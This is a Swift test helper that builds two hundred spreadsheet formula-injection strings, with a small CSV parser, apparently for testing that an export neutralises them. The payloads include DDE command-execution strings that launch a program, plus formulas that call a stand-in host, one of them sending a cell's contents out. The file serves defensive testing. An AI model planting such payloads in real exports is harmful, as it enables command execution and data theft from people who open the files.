/// Texts that a careless export would let a spreadsheet calculate.
enum Payloads {
    private static let beginnings = [
        "=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠",
    ]
    private static let bodies = [
        "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x\",\"点\")", "SUM(1+1)*cmd|' /C calc'!A0",
        "IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "WEBSERVICE(\"http://x\")", "A1:B9",
        "2+5,\"x\"",
        "DDE(\"cmd\",\"/C calc\",\"x\")", "1\n=2", "'=1", "\"=1\"", ";=1", ",=1", "R1C1", "NOW()",
        "@SUM(1)", "-1+1", "+1", "=1",
    ]

    /// Two hundred of them.
    static var all: [String] {
        beginnings.flatMap { beginning in bodies.map { beginning + $0 } }
    }

    /// The records of a CSV text.
    static func records(of text: String) -> [[String]] {
        var records: [[String]] = []
        var record: [String] = []
        var field = String.UnicodeScalarView()
        var isQuoted = false
        var scalars = text.unicodeScalars.makeIterator()
        var next = scalars.next()
        while let scalar = next {
            next = scalars.next()
            switch scalar {
            case "\"" where isQuoted && next == "\"":
                field.append(scalar)
                next = scalars.next()
            case "\"": isQuoted.toggle()
            case "," where !isQuoted:
                record.append(String(field))
                field = String.UnicodeScalarView()
            case "\r" where !isQuoted: break
            case "\n" where !isQuoted:
                records.append(record + [String(field)])
                record = []
                field = String.UnicodeScalarView()
            default: field.append(scalar)
            }
        }
        return records
    }
}
